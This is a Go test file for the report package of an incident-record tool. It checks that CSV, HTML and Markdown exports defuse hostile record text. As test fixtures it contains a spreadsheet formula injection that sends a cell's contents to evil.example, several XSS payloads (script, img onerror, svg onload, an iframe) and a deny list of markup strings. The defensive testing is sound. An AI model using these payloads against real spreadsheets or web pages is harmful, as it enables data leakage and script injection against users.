package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/casefile/casefile/internal/config"
	"github.com/casefile/casefile/internal/lint"
	"github.com/casefile/casefile/internal/record"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// goldenNow is the clock of every golden file, the --now the examples lint
// clean at.
var goldenNow = time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)

// goldenStamp is a fixed commit so golden files do not change with every
// commit of this repository.
var goldenStamp = NewStamp("5e1f0c0ffee5e1f0c0ffee5e1f0c0ffee5e1f0c0", VerifyPassed, 0)

const examplesDir = "../../examples"

// loadDir reads the records of a repository with the authoritative loader.
func loadDir(t testing.TB, dir string) ([]*record.Record, *config.Config) {
	t.Helper()
	cfg, err := config.ForRoot(dir)
	if err != nil {
		t.Fatal(err)
	}
	files, err := lint.Collect([]string{filepath.Join(dir, config.RecordsDir)})
	if err != nil {
		t.Fatal(err)
	}
	var recs []*record.Record
	for _, l := range record.LoadFiles(files) {
		if l.Err != nil {
			t.Fatalf("%s: %v", l.Path, l.Err)
		}
		recs = append(recs, l.Record)
	}
	return recs, cfg
}

func golden(t *testing.T, name string, write func(io.Writer) error) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := write(&buf); err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	got := buf.Bytes()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return got
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./internal/report -update)", err)
	}
	if !bytes.Equal(got, want) {
		gl, wl := strings.Split(string(got), "\n"), strings.Split(string(want), "\n")
		for i := 0; i < max(len(gl), len(wl)); i++ {
			var g, w string
			if i < len(gl) {
				g = gl[i]
			}
			if i < len(wl) {
				w = wl[i]
			}
			if g != w {
				t.Errorf("%s differs from the golden file at line %d (run go test ./internal/report -update if the change is intended):\n got: %q\nwant: %q", name, i+1, g, w)
				break
			}
		}
	}
	return got
}

// TestGolden renders every report in every format on the example log at
// 2026-12-01T00:00:00Z and compares with testdata/.
func TestGolden(t *testing.T) {
	recs, cfg := loadDir(t, examplesDir)
	if len(recs) != 27 {
		t.Fatalf("%d example records, want 27", len(recs))
	}
	log := Log(recs, cfg, LogOptions{Now: goldenNow, Stamp: goldenStamp})
	golden(t, "log.md", log.Markdown)
	golden(t, "log.csv", func(w io.Writer) error { return log.CSV(w, CSVOptions{}) })
	golden(t, "log.json", log.JSON)
	golden(t, "log.html", log.HTML)

	filtered := Log(recs, cfg, LogOptions{
		Now: goldenNow, Stamp: goldenStamp, Kind: "incident", Severity: "SEV2",
		Range: Range{From: day(2025, 1, 1), To: day(2026, 1, 1)},
	})
	golden(t, "log-2025-incident-sev2.md", filtered.Markdown)

	tr := Trends(recs, cfg, TrendOptions{Now: goldenNow, Stamp: goldenStamp})
	golden(t, "trends.md", tr.Markdown)
	golden(t, "trends.json", tr.JSON)
	golden(t, "trends.html", tr.HTML)

	q := Trends(recs, cfg, TrendOptions{
		Now: goldenNow, Stamp: goldenStamp, Period: Quarter,
		Range: Range{From: day(2026, 1, 1), To: day(2026, 12, 1)},
	})
	golden(t, "trends-2026-quarter.md", q.Markdown)
	golden(t, "trends-2026-quarter.json", q.JSON)

	au, err := Audit(recs, cfg, AuditOptions{Now: goldenNow, Stamp: goldenStamp})
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "audit.md", au.Markdown)
	golden(t, "audit.json", au.JSON)
	golden(t, "audit.html", au.HTML)
	au25, err := Audit(recs, cfg, AuditOptions{Period: "2025", Now: goldenNow, Stamp: Stamp{Commit: goldenStamp.Commit}})
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "audit-2025.md", au25.Markdown)

	rv, err := Review(recs, cfg, ReviewOptions{Period: "2026-Q3", Now: goldenNow, Stamp: goldenStamp, CostThreshold: 10000})
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "review.md", rv.Markdown)
	golden(t, "review.json", rv.JSON)
	golden(t, "review.html", rv.HTML)

	year, err := Review(recs, cfg, ReviewOptions{Period: "2026", Now: goldenNow, Stamp: goldenStamp})
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "review-2026.md", year.Markdown)
}

func day(y, m, d int) time.Time { return time.Date(y, time.Month(m), d, 0, 0, 0, 0, time.UTC) }

// TestCSVRoundTrip reads the CSV log back with encoding/csv: the header,
// one row per record, every cell as the JSON log has it (descriptions in
// full, formula-looking cells defused), CRLF line ends.
func TestCSVRoundTrip(t *testing.T) {
	recs, cfg := loadDir(t, examplesDir)
	// A hostile record: text a spreadsheet would run as a formula.
	evil := *recs[0]
	evil.ID = "EVT-2026-9999"
	evil.Title = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")"
	evil.Reported.By = "+49 40 1234"
	evil.Description = "-2+3\r\nsecond line, with \"quotes\" and ; semicolons"
	evil.Affected.Systems = []string{"@SUM(1+1)", "mail"}
	recs = append(recs, &evil)
	rep := Log(recs, cfg, LogOptions{Now: goldenNow, Stamp: goldenStamp})
	var buf bytes.Buffer
	if err := rep.CSV(&buf, CSVOptions{}); err != nil {
		t.Fatal(err)
	}
	raw := buf.String()
	if strings.Count(raw, "\r\n") < len(rep.Rows)+1 || strings.Contains(strings.ReplaceAll(raw, "\r\n", ""), "\n") {
		t.Error("CSV lines do not all end in CRLF")
	}
	rows, err := csv.NewReader(strings.NewReader(raw)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(rep.Rows)+1 {
		t.Fatalf("%d CSV rows, want a header and %d records", len(rows), len(rep.Rows))
	}
	if strings.Join(rows[0], ",") != strings.Join(CSVColumns, ",") {
		t.Errorf("header %v", rows[0])
	}
	col := map[string]int{}
	for i, c := range rows[0] {
		col[c] = i
	}
	for i, x := range rep.Rows {
		row := rows[i+1]
		if len(row) != len(CSVColumns) {
			t.Fatalf("row %d has %d cells", i, len(row))
		}
		// encoding/csv reads a quoted CRLF back as LF.
		want := map[string]string{
			"id": x.ID, "reported_at": x.ReportedAt, "reported_by": DefuseFormula(x.ReportedBy), "title": DefuseFormula(x.Title),
			"description":   DefuseFormula(strings.ReplaceAll(x.Description, "\r\n", "\n")),
			"systems":       DefuseFormula(strings.Join(x.Systems, ListSeparator)),
			"severity":      x.Severity,
			"status":        x.Status,
			"closed_at":     x.ClosedAt,
			"source_commit": goldenStamp.Commit,
			"verify":        "verify passed",
			"generated_at":  "2026-12-01T00:00:00Z",
		}
		for c, w := range want {
			if got := row[col[c]]; got != w {
				t.Errorf("%s %s = %q, want %q", x.ID, c, got, w)
			}
		}
	}
	var last []string
	for _, row := range rows {
		if row[0] == "EVT-2026-9999" {
			last = row
		}
	}
	for c, w := range map[string]string{
		"title":       `'=HYPERLINK("http://evil.example/"&A1,"click")`,
		"reported_by": "'+49 40 1234",
		"description": "'-2+3\nsecond line, with \"quotes\" and ; semicolons",
		"systems":     "'@SUM(1+1); mail",
	} {
		if got := last[col[c]]; got != w {
			t.Errorf("hostile %s = %q, want %q", c, got, w)
		}
	}
	// Descriptions are complete in CSV, and only shortened in Markdown.
	for _, x := range rep.Rows {
		if len([]rune(x.Description)) > DescriptionLimit {
			return
		}
	}
	t.Error("no example description is long enough to test truncation")
}

// TestCSVBOM: --bom starts the file with a UTF-8 byte-order mark.
func TestCSVBOM(t *testing.T) {
	recs, cfg := loadDir(t, examplesDir)
	var buf bytes.Buffer
	if err := Log(recs, cfg, LogOptions{Now: goldenNow}).CSV(&buf, CSVOptions{BOM: true}); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte("\xEF\xBB\xBFid,")) {
		t.Errorf("no BOM: %q", buf.Bytes()[:10])
	}
}

// TestHTMLEscapes: record text cannot inject markup or scripts into the
// HTML reports, and nothing is loaded from anywhere.
func TestHTMLEscapes(t *testing.T) {
	recs, cfg := loadDir(t, examplesDir)
	evil := *recs[len(recs)-1]
	evil.ID = "INC-2026-9999"
	evil.Kind = record.KindIncident
	evil.Status = record.StatusResponding
	evil.Title = `<script>alert(1)</script><img src=x onerror=alert(2)>`
	evil.Description = `</td></tr></table><iframe src="https://evil.example/">`
	evil.Assessment = &record.Assessment{IsIncident: true, Category: `"><svg onload=alert(3)>`, Severity: "SEV1"}
	evil.RootCause = &record.RootCause{Factors: []string{"<b>bold</b>"}}
	evil.Lessons = "<style>body{background:#000}</style>"
	evil.Closed = &record.Closure{At: record.At(day(2026, 8, 1)), By: "x"}
	evil.Status = record.StatusClosed
	evil.Reported.At = record.At(day(2026, 7, 2))
	recs = append(recs, &evil)
	var pages []string
	var buf bytes.Buffer
	if err := Log(recs, cfg, LogOptions{Now: goldenNow}).HTML(&buf); err != nil {
		t.Fatal(err)
	}
	pages = append(pages, buf.String())
	buf.Reset()
	if err := Trends(recs, cfg, TrendOptions{Now: goldenNow}).HTML(&buf); err != nil {
		t.Fatal(err)
	}
	pages = append(pages, buf.String())
	rv, err := Review(recs, cfg, ReviewOptions{Period: "2026-Q3", Now: goldenNow})
	if err != nil {
		t.Fatal(err)
	}
	buf.Reset()
	if err := rv.HTML(&buf); err != nil {
		t.Fatal(err)
	}
	pages = append(pages, buf.String())
	for i, p := range pages {
		for _, bad := range []string{"<script", "<img", "<iframe", "<svg onload", "<b>bold", "<style>body{background:#000}", "src=\"http", "href=\"http", "url(", "@import"} {
			if strings.Contains(p, bad) {
				t.Errorf("page %d contains %q", i, bad)
			}
		}
		if !strings.Contains(p, "Content-Security-Policy") {
			t.Errorf("page %d has no Content-Security-Policy", i)
		}
	}
	if !strings.Contains(pages[0], "&lt;script&gt;alert(1)&lt;/script&gt;") {
		t.Error("the log does not show the escaped title")
	}
}

// TestMarkdownEscapes: record text cannot break the Markdown tables or
// inject HTML.
func TestMarkdownEscapes(t *testing.T) {
	if got := mdEscape("a | b\n<i>x</i> *y* [l](u)"); got != `a \| b \<i\>x\</i\> \*y\* \[l\](u)` {
		t.Errorf("mdEscape = %q", got)
	}
	if got := Truncate("one two three four", 12); got != "one two…" {
		t.Errorf("Truncate = %q", got)
	}
}

func TestStampSentence(t *testing.T) {
	yes, no := true, false
	cases := []struct {
		s    Stamp
		want string
	}{
		{Stamp{Commit: "abc"}, "Made from commit abc; the chain of custody at this commit was not verified (casefile verify was not run)."},
		{Stamp{Commit: "abc", Verified: &yes}, "Made from commit abc; casefile verify passed at this commit."},
		{Stamp{Commit: "abc", Verified: &no, Note: "N."}, "Made from commit abc; casefile verify FAILED at this commit: the chain of custody is broken. N."},
		{Stamp{}, "Made from records that are not in a git commit, so no chain of custody vouches for them."},
		{NewStamp("abc", VerifyFailed, 3), "Made from commit abc; casefile verify FAILED at this commit (3 violations): the chain of custody is broken."},
		{NewStamp("abc", VerifyFailed, 1), "Made from commit abc; casefile verify FAILED at this commit (1 violation): the chain of custody is broken."},
		{NewStamp("abc", VerifyPassed, 0), "Made from commit abc; casefile verify passed at this commit."},
		{NewStamp("abc", VerifyUnverifiable, 0), "Made from commit abc; casefile verify found nothing broken, but the clone is shallow, so the history before its boundary was not checked."},
		{NewStamp("abc", VerifyError, 0), "Made from commit abc; casefile verify could not read the repository, so the chain of custody at this commit is unknown."},
	}
	for _, tc := range cases {
		if got := tc.s.Sentence(); got != tc.want {
			t.Errorf("Sentence(%+v) = %q, want %q", tc.s, got, tc.want)
		}
	}
	for s, want := range map[Stamp]string{
		{}: "not verified", NewStamp("c", VerifyPassed, 0): "verify passed",
		NewStamp("c", VerifyFailed, 2): "verify FAILED", NewStamp("c", VerifyUnverifiable, 0): "verify incomplete (shallow clone)",
	} {
		if got := s.Verify(); got != want {
			t.Errorf("%+v.Verify() = %q, want %q", s, got, want)
		}
	}
	if v := NewStamp("c", VerifyUnverifiable, 0).Verified; v != nil {
		t.Errorf("an unverifiable history has Verified %v, want nil", *v)
	}
}

func TestParsePeriod(t *testing.T) {
	cases := []struct {
		in       string
		from, to time.Time
	}{
		{"2026", day(2026, 1, 1), day(2027, 1, 1)},
		{"2026-H2", day(2026, 7, 1), day(2027, 1, 1)},
		{"2026-Q3", day(2026, 7, 1), day(2026, 10, 1)},
		{"2026-07", day(2026, 7, 1), day(2026, 8, 1)},
		{"2026-12", day(2026, 12, 1), day(2027, 1, 1)},
	}
	for _, tc := range cases {
		r, _, err := ParsePeriod(tc.in)
		if err != nil || !r.From.Equal(tc.from) || !r.To.Equal(tc.to) {
			t.Errorf("ParsePeriod(%s) = %v–%v, %v", tc.in, r.From, r.To, err)
		}
	}
	for _, bad := range []string{"", "2026-Q5", "2026-13", "26", "2026-H3", "2026-q3", "Q3"} {
		if _, _, err := ParsePeriod(bad); err == nil {
			t.Errorf("ParsePeriod(%q) accepted", bad)
		}
	}
	if p := previousRange(Range{From: day(2026, 7, 1), To: day(2026, 10, 1)}); !p.From.Equal(day(2026, 4, 1)) || !p.To.Equal(day(2026, 7, 1)) {
		t.Errorf("previous quarter %v", p)
	}
	if p := previousRange(Range{From: day(2026, 7, 10), To: day(2026, 7, 20)}); !p.From.Equal(day(2026, 6, 30)) {
		t.Errorf("previous 10 days %v", p)
	}
}

// TestLateHook: a LateFunc replaces the late_reason rule.
func TestLateHook(t *testing.T) {
	recs, cfg := loadDir(t, examplesDir)
	all := Trends(recs, cfg, TrendOptions{Now: goldenNow, Late: func(*record.Record, *record.Notification) bool { return true }})
	if all.Notifications.Late != all.Notifications.Total || all.Notifications.Total == 0 {
		t.Errorf("hook not used: %+v", all.Notifications)
	}
	def := Trends(recs, cfg, TrendOptions{Now: goldenNow})
	want := 0
	for _, r := range recs {
		for _, n := range r.Notifications {
			if n.LateReason != "" {
				want++
			}
		}
	}
	if def.Notifications.Late != want {
		t.Errorf("late by reason %d, want %d", def.Notifications.Late, want)
	}
}

// TestJSONShape: the JSON reports parse and carry the stamp.
func TestJSONShape(t *testing.T) {
	recs, cfg := loadDir(t, examplesDir)
	var buf bytes.Buffer
	if err := Trends(recs, cfg, TrendOptions{Now: goldenNow, Stamp: goldenStamp}).JSON(&buf); err != nil {
		t.Fatal(err)
	}
	var v struct {
		Source struct {
			Commit   string `json:"commit"`
			Verified *bool  `json:"verified"`
			Status   string `json:"verify_status"`
		} `json:"source"`
		Verify  string `json:"verify"`
		Records int    `json:"records"`
	}
	if err := json.Unmarshal(buf.Bytes(), &v); err != nil {
		t.Fatal(err)
	}
	if v.Source.Commit != goldenStamp.Commit || v.Source.Verified == nil || !*v.Source.Verified || v.Source.Status != "verified" || v.Verify != "verify passed" || v.Records != 27 {
		t.Errorf("%+v", v)
	}
}
